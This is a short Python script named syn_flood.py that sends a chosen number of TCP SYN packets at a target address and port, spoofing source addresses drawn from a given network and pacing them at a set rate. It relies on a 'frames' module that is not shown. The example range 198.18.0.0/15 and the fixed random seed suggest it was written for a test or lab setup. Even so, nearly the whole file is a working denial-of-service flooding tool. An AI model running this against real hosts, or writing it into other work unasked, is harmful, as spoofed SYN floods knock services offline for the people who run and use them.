"""syn_flood.py NETWORK ADDRESS PORT N A-SECOND: sends N SYNs of N sources, all addresses of a
network such as 198.18.0.0/15, evenly over the time. Prints `flooding` after the first tenth, and at
the end how many were sent."""

import ipaddress
import random
import sys
import time

import frames

random.seed(1)
network, address, port = ipaddress.ip_network(sys.argv[1]), sys.argv[2], int(sys.argv[3])
count, a_second = int(sys.argv[4]), int(sys.argv[5])
BURST, SYN = 20, 0x02
start = time.monotonic()
for number in range(count):
    source = str(network[1 + number % (min(network.num_addresses, 1 << 32) - 2)])
    frames.send(frames.tcp(source, random.randrange(1024, 65536), address, port, SYN))
    if number % BURST == 0:
        time.sleep(max(0, start + number / a_second - time.monotonic()))
    if number == count // 10:
        print("flooding", flush=True)
print(count, "sent", flush=True)
